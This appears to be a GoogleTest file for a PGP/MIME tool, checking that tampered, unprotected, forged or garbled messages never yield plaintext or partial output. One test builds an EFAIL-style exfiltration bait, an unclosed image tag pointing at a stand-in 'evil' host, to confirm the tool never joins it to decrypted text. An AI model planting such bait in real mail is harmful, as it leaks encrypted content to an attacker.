// PGP/MIME input that must not be trusted: messages without integrity protection (EFAIL),
// tampered signatures, forged senders, broken armor, garbage. Never a crash, never plaintext
// or a partial output file on failure.

#include <gtest/gtest.h>

#include "tests/gnupg/pgp_fixture.hpp"

namespace keyfence::test {
namespace {

std::string encrypted_message(const std::string& from, const std::string& armored,
                              const std::string& extra_part = "") {
    std::string m =
        "From: <" + from + ">\r\nTo: <rsa2048@example.org>\r\nSubject: s\r\nMIME-Version: 1.0\r\n";
    const std::string encrypted =
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
        "boundary=\"B\"\r\n\r\n--B\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
        "Version: 1\r\n\r\n--B\r\nContent-Type: application/octet-stream\r\n\r\n" +
        armored + "\r\n--B--\r\n";
    if (extra_part.empty()) return m + encrypted;
    return m + "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\n" + encrypted +
           "\r\n--M\r\nContent-Type: text/plain\r\n\r\n" + extra_part + "\r\n--M--\r\n";
}

std::string base64_lines(const std::string& bytes) {
    static const char* k_alphabet =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    std::size_t line = 0;
    for (std::size_t i = 0; i < bytes.size(); i += 3) {
        std::uint32_t v = static_cast<std::uint8_t>(bytes[i]) << 16;
        if (i + 1 < bytes.size()) v |= static_cast<std::uint8_t>(bytes[i + 1]) << 8;
        if (i + 2 < bytes.size()) v |= static_cast<std::uint8_t>(bytes[i + 2]);
        out += k_alphabet[(v >> 18) & 63];
        out += k_alphabet[(v >> 12) & 63];
        out += i + 1 < bytes.size() ? k_alphabet[(v >> 6) & 63] : '=';
        out += i + 2 < bytes.size() ? k_alphabet[v & 63] : '=';
        if ((line += 4) == 76) {
            out += "\r\n";
            line = 0;
        }
    }
    return out;
}

class PgpBadInputTest : public PgpTest {
  protected:
    /// Bob encrypts `text` to the token key with gpg `options`; returns the armored message.
    std::string bob_encrypts(const std::string& text, std::vector<std::string> options) {
        write_file(path("plain"), text);
        std::vector<std::string> args = {"--trust-model", "always", "--armor", "-r", k_me};
        args.insert(args.end(), options.begin(), options.end());
        args.insert(args.end(), {"-e", "-o", path("plain.asc").string(), path("plain").string()});
        EXPECT_EQ(peer_gpg(args).exit_code, 0);
        return read_file(path("plain.asc"));
    }
    /// The binary OpenPGP file `binary` armored as a message block ("--enarmor" writes
    /// "ARMORED FILE"; as a message block it is the same radix-64 data).
    std::string armored_as_message(const std::string& binary) {
        write_file(path("tampered.gpg"), binary);
        EXPECT_EQ(peer_gpg({"--enarmor", "-o", path("tampered.asc").string(),
                            path("tampered.gpg").string()})
                      .exit_code,
                  0);
        std::string armored = read_file(path("tampered.asc"));
        for (auto at = armored.find("ARMORED FILE"); at != std::string::npos;
             at = armored.find("ARMORED FILE")) {
            armored.replace(at, 12, "MESSAGE");
        }
        return armored;
    }
    ProcessResult decrypt(const std::string& message_text) {
        write_file(path("in.eml"), message_text);
        return kf({"pgp", "decrypt", "--homedir", home(), "--in", path("in.eml").string(), "--out",
                   path("out.eml").string()});
    }
    std::filesystem::path signed_message() {
        auto r = kf({"pgp", "sign", "--homedir", home(), "--key", k_me, "--in",
                     message("msg.eml").string(), "--out", path("signed.eml").string()});
        EXPECT_EQ(r.exit_code, 0) << r.err;
        return path("signed.eml");
    }
    /// A message Keyfence signed, with `from` replaced by `to`, verified by Keyfence.
    ProcessResult verify_edited(const std::string& from, const std::string& to) {
        std::string text = read_file(signed_message());
        const auto at = text.find(from);
        EXPECT_NE(at, std::string::npos) << from;
        if (at != std::string::npos) text.replace(at, from.size(), to);
        return verify(text);
    }
    ProcessResult verify(const std::string& message_text) {
        write_file(path("v.eml"), message_text);
        return kf({"pgp", "verify", "--homedir", home(), "--in", path("v.eml").string()});
    }
};

TEST_F(PgpBadInputTest, MessageWithoutMdcGivesNoPlaintext) {
    // gpg 2.2.40 still writes a legacy symmetrically encrypted data packet (no MDC) with
    // --rfc2440 and a 64-bit block cipher.
    const std::string armored = bob_encrypts("Content-Type: text/plain\r\n\r\nEFAIL bait\r\n",
                                             {"--rfc2440", "--cipher-algo", "3DES"});
    auto r = decrypt(encrypted_message(k_bob, armored));
    EXPECT_NE(r.exit_code, 0);
    EXPECT_NE(r.exit_code, 1);
    EXPECT_FALSE(std::filesystem::exists(path("out.eml")));
    EXPECT_EQ(r.out.find("EFAIL bait"), std::string::npos);
    EXPECT_EQ(r.err.find("EFAIL bait"), std::string::npos);
}

TEST_F(PgpBadInputTest, FailingMdcGivesNoPlaintext) {
    write_file(path("plain"), "Content-Type: text/plain\r\n\r\nsecret words\r\n");
    ASSERT_EQ(peer_gpg({"--trust-model", "always", "-r", k_me, "-e", "-o",
                        path("plain.gpg").string(), path("plain").string()})
                  .exit_code,
              0);
    // Flip a bit in the last bytes of the encrypted data packet (the MDC's region).
    std::string bin = read_file(path("plain.gpg"));
    bin[bin.size() - 5] = static_cast<char>(bin[bin.size() - 5] ^ 0x01);
    const std::string armored = armored_as_message(bin);
    auto r = decrypt(encrypted_message(k_bob, armored));
    EXPECT_EQ(r.exit_code, 7) << r.err;
    EXPECT_FALSE(std::filesystem::exists(path("out.eml")));
    EXPECT_EQ(r.out.find("secret words"), std::string::npos);
}

TEST_F(PgpBadInputTest, ALargeTamperedMessageLeavesNothingThoughItsPlaintextStreamed) {
    // 2 MiB of plaintext (uncompressed, so that the flipped byte lands in the data near its
    // end): gpg has written most of the plaintext, which went on into the output's temporary
    // file, before the MDC fails. Nothing may be left: no output, no temporary file.
    std::string text = "Content-Type: text/plain\r\n\r\n";
    while (text.size() < (2u << 20)) text += "secret line of the large message\r\n";
    write_file(path("plain"), text);
    ASSERT_EQ(peer_gpg({"--trust-model", "always", "-z", "0", "-r", k_me, "-e", "-o",
                        path("plain.gpg").string(), path("plain").string()})
                  .exit_code,
              0);
    std::string bin = read_file(path("plain.gpg"));
    bin[bin.size() - 4096] = static_cast<char>(bin[bin.size() - 4096] ^ 0x01);
    const std::string armored = armored_as_message(bin);
    std::filesystem::create_directory(path("outdir"));
    write_file(path("in.eml"), encrypted_message(k_bob, armored));
    auto r = kf({"pgp", "decrypt", "--homedir", home(), "--in", path("in.eml").string(), "--out",
                 path("outdir/out.eml").string()});
    EXPECT_EQ(r.exit_code, 7) << r.err;
    EXPECT_TRUE(std::filesystem::is_empty(path("outdir")));
    EXPECT_EQ(r.out.find("secret line"), std::string::npos);
}

TEST_F(PgpBadInputTest, DecryptedContentIsNeverJoinedWithUnencryptedParts) {
    const std::string armored =
        bob_encrypts("Content-Type: text/plain\r\n\r\nthe encrypted part\r\n", {});
    auto r = decrypt(encrypted_message(k_bob, armored, "<img src=\"http://evil/?x="));
    ASSERT_EQ(r.exit_code, 0) << r.err;
    const std::string out = read_file(path("out.eml"));
    EXPECT_NE(out.find("the encrypted part"), std::string::npos);
    EXPECT_EQ(out.find("evil"), std::string::npos);
    EXPECT_NE(r.out.find("mixed encrypted and unencrypted"), std::string::npos);
}

TEST_F(PgpBadInputTest, OnlyThePayloadPartsBytesReachGpg) {
    // The payload part (no transfer encoding) is read in place as a range of the input file: a
    // second OpenPGP message after the part, in the epilogue, must not be decrypted or joined.
    const std::string first =
        bob_encrypts("Content-Type: text/plain\r\n\r\nthe payload part\r\n", {});
    const std::string second =
        bob_encrypts("Content-Type: text/plain\r\n\r\nepilogue bait\r\n", {});
    auto r = decrypt(encrypted_message(k_bob, first) + second);
    ASSERT_EQ(r.exit_code, 0) << r.err;
    const std::string out = read_file(path("out.eml"));
    EXPECT_NE(out.find("the payload part"), std::string::npos) << out;
    EXPECT_EQ(out.find("epilogue bait"), std::string::npos) << out;
    EXPECT_EQ(r.out.find("epilogue bait"), std::string::npos);
}

TEST_F(PgpBadInputTest, Base64PayloadPartIsDecoded) {
    // A transfer-encoded payload part takes the decoding path: same plaintext.
    const std::string armored =
        bob_encrypts("Content-Type: text/plain\r\n\r\nencoded payload\r\n", {});
    std::string message = encrypted_message(k_bob, armored);
    const std::string head = "Content-Type: application/octet-stream\r\n\r\n";
    const auto at = message.find(head);
    ASSERT_NE(at, std::string::npos);
    const auto end = message.find("\r\n--B--");
    std::string encoded = base64_lines(message.substr(at + head.size(), end - at - head.size()));
    message = message.substr(0, at) +
              "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
              "\r\n" +
              encoded + message.substr(end);
    auto r = decrypt(message);
    ASSERT_EQ(r.exit_code, 0) << r.err;
    EXPECT_NE(read_file(path("out.eml")).find("encoded payload"), std::string::npos);
}

TEST_F(PgpBadInputTest, InlinePgpIsDecrypted) {
    const std::string armored = bob_encrypts("inline secret\n", {});
    auto r = decrypt(
        "From: <bob@example.org>\r\nSubject: inline\r\nContent-Type: text/plain\r\n\r\n" + armored);
    ASSERT_EQ(r.exit_code, 0) << r.err;
    EXPECT_NE(read_file(path("out.eml")).find("inline secret"), std::string::npos);
    EXPECT_NE(r.out.find("inline"), std::string::npos);
}

TEST_F(PgpBadInputTest, TamperedSignedContentDoesNotVerify) {
    auto r = verify_edited("Meet at noon.", "Skip at noon.");
    EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
    EXPECT_NE(r.out.find("NOT VERIFIED"), std::string::npos);
}

TEST_F(PgpBadInputTest, ForgedFromDoesNotVerify) {
    auto r = verify_edited("From: Sender <rsa2048@example.org>", "From: Boss <ceo@example.org>");
    EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
    EXPECT_NE(r.out.find("NOT VERIFIED (signer_is_not_from)"), std::string::npos);
    EXPECT_NE(r.out.find("signature: valid"), std::string::npos);
}

TEST_F(PgpBadInputTest, TruncatedArmorFailsWithoutOutput) {
    const std::string armored = bob_encrypts("Content-Type: text/plain\r\n\r\ncut\r\n", {});
    auto r = decrypt(encrypted_message(k_bob, armored.substr(0, armored.size() / 2)));
    EXPECT_EQ(r.exit_code, 7) << r.err;
    EXPECT_FALSE(std::filesystem::exists(path("out.eml")));

    std::string text = read_file(signed_message());
    const auto sig = text.find("-----BEGIN PGP SIGNATURE-----");
    text = text.substr(0, sig + 60) + "\r\n--" + "x--\r\n";
    auto v = verify(text);
    EXPECT_TRUE(v.exit_code == 1 || v.exit_code == 7) << v.exit_code << v.err;
}

TEST_F(PgpBadInputTest, UnknownRecipientIsRefusedWithoutOutput) {
    auto r = kf({"pgp", "encrypt", "--homedir", home(), "--to", "nobody@example.org", "--in",
                 message("msg.eml").string(), "--out", path("enc.eml").string()});
    EXPECT_EQ(r.exit_code, 5) << r.err;
    EXPECT_NE(r.err.find("nobody@example.org"), std::string::npos);
    EXPECT_FALSE(std::filesystem::exists(path("enc.eml")));
}

TEST_F(PgpBadInputTest, MessageForSomeoneElseIsRefusedBeforeAnyPin) {
    write_file(path("plain"), "Content-Type: text/plain\r\n\r\nfor Bob\r\n");
    ASSERT_EQ(peer_gpg({"--trust-model", "always", "--armor", "-r", k_bob, "-e", "-o",
                        path("bob.asc").string(), path("plain").string()})
                  .exit_code,
              0);
    // An empty PIN source: asking for a PIN at all would fail with another exit code.
    write_file(path("in.eml"), encrypted_message(k_bob, read_file(path("bob.asc"))));
    auto r = kf({"pgp", "decrypt", "--homedir", home(), "--in", path("in.eml").string(), "--out",
                 path("out.eml").string()},
                "");
    EXPECT_EQ(r.exit_code, 5) << r.err;
    EXPECT_NE(r.err.find("none of them a token key"), std::string::npos) << r.err;
    EXPECT_FALSE(std::filesystem::exists(path("out.eml")));
}

TEST_F(PgpBadInputTest, HiddenRecipientsAreRefused) {
    // gpg would try every secret key for a hidden recipient: the engine could not judge which.
    const std::string armored =
        bob_encrypts("Content-Type: text/plain\r\n\r\nhidden\r\n", {"--throw-keyids"});
    auto r = decrypt(encrypted_message(k_bob, armored));
    EXPECT_EQ(r.exit_code, 8) << r.err;
    EXPECT_NE(r.err.find("hides its recipients"), std::string::npos) << r.err;
    EXPECT_FALSE(std::filesystem::exists(path("out.eml")));
}

TEST_F(PgpBadInputTest, GarbageNeverCrashes) {
    const std::vector<std::string> inputs = {
        "",
        "\x01\x02\x03 not a message",
        "From: a@b\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n!!!!\r\n-----END PGP MESSAGE-----\r\n",
        encrypted_message(k_bob,
                          "-----BEGIN PGP MESSAGE-----\r\n\r\nAAAA\r\n"
                          "-----END PGP MESSAGE-----"),
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
        "boundary=\"q\"\r\nFrom: a@b\r\n\r\n--q\r\n\r\nx\r\n--q--\r\n",
    };
    for (const auto& input : inputs) {
        auto d = decrypt(input);
        EXPECT_GE(d.exit_code, 1) << d.err;
        EXPECT_LE(d.exit_code, 8) << d.err;
        EXPECT_FALSE(std::filesystem::exists(path("out.eml")));
        auto v = verify(input);
        EXPECT_GE(v.exit_code, 1) << v.err;
        EXPECT_LE(v.exit_code, 8) << v.err;
    }
}

}  // namespace
}  // namespace keyfence::test
